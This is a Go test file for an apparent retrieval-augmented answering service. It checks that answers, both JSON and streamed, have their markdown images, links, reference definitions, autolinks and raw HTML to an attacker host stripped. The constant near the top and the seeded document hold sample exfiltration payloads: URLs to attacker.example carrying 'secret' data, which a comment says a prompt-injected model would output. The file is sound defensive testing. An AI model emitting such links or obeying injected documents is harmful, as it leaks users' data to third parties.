package dataplane_test

import (
	"bufio"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/ragplane/ragplane"
	"github.com/ragplane/ragplane/dataplane"
	"github.com/ragplane/ragplane/e2etest"
	"github.com/ragplane/ragplane/internal/openaitest"
)

// injected is what a model answers after reading a document that told it to exfiltrate: an image,
// a link, a reference definition shadowing a citation, an autolink and raw HTML, all to the
// attacker, around a genuine citation.
const injected = "Backups are encrypted [1]. ![x](https://attacker.example/?d=secret-img) " +
	"[details](HTTPS://attacker.example/?d=secret-link) <img src=\"https://attacker.example/?d=secret-html\"> " +
	"<https://attacker.example/?d=secret-auto>\n\n[1]: https://attacker.example/?d=secret-def\n"

// An answer's exfiltration links never reach the client, as JSON or streamed (the stream split
// inside the URLs), unless the tenant allow-listed the host.
func TestAnswerSanitised(t *testing.T) {
	ai := openaitest.New(t, openaitest.Config{Chat: func(req openaitest.ChatRequest) openaitest.ChatResponse {
		// Deltas cut inside the constructs, as a model's tokens would.
		var deltas []string
		for rest := injected; rest != ""; {
			n := min(7, len(rest))
			deltas, rest = append(deltas, rest[:n]), rest[n:]
		}
		return openaitest.ChatResponse{Content: injected, Deltas: deltas}
	}})
	st := e2etest.Start(t, e2etest.Options{Worker: func(c *dataplane.Config) {
		c.OpenAI.BaseURL, c.OpenAI.APIKey = ai.URL, ai.APIKey
	}})
	st.CreateTenant("guarded", "enterprise", map[string]any{"answer_provider": "openai"})
	st.CreateTenant("trusting", "enterprise", map[string]any{"answer_provider": "openai", "answer_link_hosts": "attacker.example"})

	tests := []struct {
		name   string
		given  string // tenant
		expect bool   // the attacker's URLs are kept
	}{
		{name: "no hosts allowed", given: "guarded", expect: false},
		{name: "host allowed", given: "trusting", expect: true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c := st.Tenant(tc.given)
			seed(t, c)
			check := func(where, text string) {
				t.Helper()
				for _, secret := range []string{"secret-img", "secret-link", "secret-def"} {
					if strings.Contains(text, secret) != tc.expect {
						t.Errorf("%s: %s kept = %v, want %v:\n%s", where, secret, !tc.expect, tc.expect, text)
					}
				}
				// Raw HTML is escaped whatever the hosts, and the citation stays.
				if strings.Contains(text, "<img") || !strings.Contains(text, "encrypted [1].") {
					t.Errorf("%s: raw HTML or citation:\n%s", where, text)
				}
			}

			r := c.Do("POST", "/v1/query", map[string]any{"query": "Are backups encrypted?"})
			mustStatus(t, r, http.StatusOK)
			var a ragplane.Answer
			r.Decode(t, &a)
			check("JSON answer", a.Answer)
			if removed := a.Metadata.Sanitized; (removed["images"] == 1 && removed["links"] >= 2) == tc.expect || removed["html"] != 1 {
				t.Errorf("metadata sanitized = %v", removed)
			}

			r = c.Do("POST", "/v1/query", map[string]any{"query": "Are backups encrypted?", "stream": true})
			mustStatus(t, r, http.StatusOK)
			deltas, done := readEvents(t, r.Body)
			check("stream deltas", deltas)
			check("stream done", done.Answer)
			if deltas != done.Answer || done.Answer != a.Answer {
				t.Errorf("deltas %q, done %q, JSON %q differ", deltas, done.Answer, a.Answer)
			}
		})
	}
}

// readEvents returns the concatenated "delta" texts and the "done" answer of a query stream.
func readEvents(tb testing.TB, body []byte) (string, ragplane.Answer) {
	tb.Helper()
	var deltas strings.Builder
	var done ragplane.Answer
	event := ""
	sc := bufio.NewScanner(strings.NewReader(string(body)))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		line := sc.Text()
		switch {
		case strings.HasPrefix(line, "event: "):
			event = strings.TrimPrefix(line, "event: ")
		case strings.HasPrefix(line, "data: ") && event == "delta":
			var d struct{ Text string }
			if err := json.Unmarshal([]byte(strings.TrimPrefix(line, "data: ")), &d); err != nil {
				tb.Fatal(err)
			}
			deltas.WriteString(d.Text)
		case strings.HasPrefix(line, "data: ") && event == "done":
			if err := json.Unmarshal([]byte(strings.TrimPrefix(line, "data: ")), &done); err != nil {
				tb.Fatal(err)
			}
		case strings.HasPrefix(line, "data: ") && event == "error":
			tb.Fatalf("stream error: %s", line)
		}
	}
	if done.Answer == "" {
		tb.Fatalf("no done event in %s", body)
	}
	return deltas.String(), done
}

// The extractive answerer quotes tenant documents, which may carry the same injection: its
// answers are sanitised too.
func TestExtractiveAnswerSanitised(t *testing.T) {
	st := e2etest.Start(t, e2etest.Options{})
	st.CreateTenant("quoting", "pro", nil)
	c := st.Tenant("quoting")
	r := c.Do("POST", "/v1/documents", map[string]any{"title": "Backup schedule",
		"content": "Backups are encrypted every night ![chart](https://attacker.example/?d=secret-img) by the vault service."})
	mustStatus(t, r, http.StatusCreated)

	r = c.Do("POST", "/v1/query", map[string]any{"query": "Are backups encrypted every night?"})
	mustStatus(t, r, http.StatusOK)
	var a ragplane.Answer
	r.Decode(t, &a)
	if strings.Contains(a.Answer, "attacker.example") || !strings.Contains(a.Answer, "chart") || a.Metadata.Sanitized["images"] != 1 {
		t.Fatalf("answer %q, sanitized %v", a.Answer, a.Metadata.Sanitized)
	}
	r = c.Do("POST", "/v1/query", map[string]any{"query": "Are backups encrypted every night?", "stream": true})
	mustStatus(t, r, http.StatusOK)
	deltas, done := readEvents(t, r.Body)
	if deltas != a.Answer || done.Answer != a.Answer {
		t.Fatalf("stream deltas %q, done %q, want %q", deltas, done.Answer, a.Answer)
	}
}
